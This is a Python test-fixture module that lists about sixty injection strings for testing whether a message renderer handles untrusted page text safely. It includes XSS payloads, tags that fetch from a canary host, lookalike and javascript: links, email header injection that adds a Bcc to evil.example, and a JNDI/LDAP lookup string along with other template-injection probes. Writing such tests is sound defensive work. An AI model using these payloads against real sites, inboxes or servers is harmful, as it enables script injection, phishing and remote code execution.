"""Sixty texts that a page could hold to do something in a message instead of being read there. All our own.

CANARY stands for a server that must never be called; the tests give the address of a real one.
"""

from __future__ import annotations

CANARY = "http://canary.invalid"

MARKUP = (
    "<script>document.title='owned'</script>",
    "</p></blockquote></div></body></html><script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    f"<img src='{CANARY}/img'>",
    f'"><script src="{CANARY}/js"></script>',
    f"<link rel=stylesheet href={CANARY}/css>",
    f"<style>@import url({CANARY}/import);*{{background:url({CANARY}/bg)}}</style>",
    '" onmouseover="document.title=1" autofocus onfocus="document.title=2" x="',
    "' style='position:fixed;inset:0' onclick='document.title=3",
    f"<iframe src='{CANARY}/frame'></iframe><object data={CANARY}/o></object><embed src={CANARY}/e>",
    f"<svg/onload=document.title='owned'><use href={CANARY}/svg#x></svg>",
    "<!--[if mso]><script>document.title='owned'</script><![endif]-->",
    "<![endif]--><script>document.title='owned'</script><!--[if mso]>",
    f"<form action={CANARY}/form><button autofocus>Confirm your account</button></form>",
    f"<meta http-equiv=refresh content='0;url={CANARY}/refresh'><base href={CANARY}/>",
    "<a href=javascript:document.title='owned'>The page</a>",
    "&lt;script&gt;document.title='owned'&lt;/script&gt; &#60;script&#62; &amp;lt;b&amp;gt;",
    "<del>We do not</del> train <ins>on anything</ins>",
    "<del",
    "<ScRiPt >document.title='owned'</sCrIpT\t>",
    f"<video src={CANARY}/v autoplay></video><audio src={CANARY}/a autoplay></audio>",
    f"<math><mtext></mtext><mglyph><style><img src={CANARY}/m onerror=document.title=1>",
)
LINKS = (
    "javascript:document.title='owned'",
    "[https://www.agora.example](https://evil.example/login)",
    f"![pixel]({CANARY}/pixel.png)",
    "[The page][1]\n\n[1]: https://evil.example/",
    "<https://evil.example/>",
    "<https://evil.example|https://www.agora.example>",
    "https://www.agora.example@evil.example/settings",
    "https://www.аgora.example/settings",  # the first letter is Cyrillic
    "www.evil.example and ftp://evil.example and mailto:eve@evil.example",
    "data:text/html;base64,PHNjcmlwdD5kb2N1bWVudC50aXRsZT0xPC9zY3JpcHQ+",
    "vbscript:msgbox(1) file:///etc/passwd tel:+1900",
)
CALLS = (
    "<!channel> <!here> <!everyone> <!subteam^S1234567>",
    "<@U12345678> <#C1234567|legal> <!date^1392734382^{date}^https://evil.example|x>",
    "@room @everyone @here @channel @all",
    "@alice closes #12, fixes agora/terms#3 [skip ci]",
    '<a href="https://matrix.to/#/@alice:matrix.example">alice</a>',
    ":rotating_light: :smile:",
)
MARKS = (
    "*bold* _italic_ ~gone~ `code` ```block```",
    "**bold** __bold__ ~~gone~~ ***both*** <u>under</u>",
    "# heading\n## heading\n- item\n1. item\n> quote\n---\n| a | b |\n|---|---|",
    "~~We do not~~ **train**\\* a\\b\\",
    "[-removed-] {+added+} [x] {{+x+}}",
    "$\\href{javascript:1}{x}$ \\(x\\) $$y$$",
)
HEADERS = (
    "Terms\r\nBcc: eve@evil.example\r\n\r\nYou won",
    "Terms\nSubject: You won\n\nbody",
    "=?utf-8?B?PHNjcmlwdD4=?= =?utf-8?q?Bcc=3A_eve=40evil.example?=",
    "=3Cscript=3E =\r\n=\n.\r\n..\r\nQUIT\r\n",
    "\r\n--=====boundary=====\r\nContent-Type: text/html\r\n\r\n<script>document.title=1</script>",
    "Terms\x0bX-Evil: 1\x0cY-Evil: 2\u2028Z-Evil: 3\x85W-Evil: 4",
)
UNSEEN = (
    "\x1b[31mred\x1b[0m\x1b]0;title\x07\x1b[2J\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x9b31m\x90q\x9c\x00\x08\x08\x7f",
    "we do \u202eton\u202c train \u2066\u2067x\u2069 \u061c\u200f\u200e",
    "pri\u200bva\u200dcy\u2060\ufeff\u00ad no\u034ft",
    "a\U000e0041\U000e0042\U000e007f tags \ufff9anno\ufffatation\ufffb",
    "\ud800 lone \udfff halves",
)
LONG = (
    "A" * 5000,
    "we " * 4000,
    "Z\u0335\u0321\u0322" * 500,
    "https://www.agora.example/" + "x" * 3000,
)
TEMPLATES = (
    "{title} {0} {n!r} {__class__} %s %(name)s %n ${HOME} $(id) `id` {{7*7}} {% raw %} <%= 7*7 %> #{7*7}",
    "{commit.__class__.__mro__} {{ config }} ${jndi:ldap://evil.example/a} !!python/object:os.system",
)
TEXTS = (*MARKUP, *LINKS, *CALLS, *MARKS, *HEADERS, *UNSEEN, *LONG, *TEMPLATES)
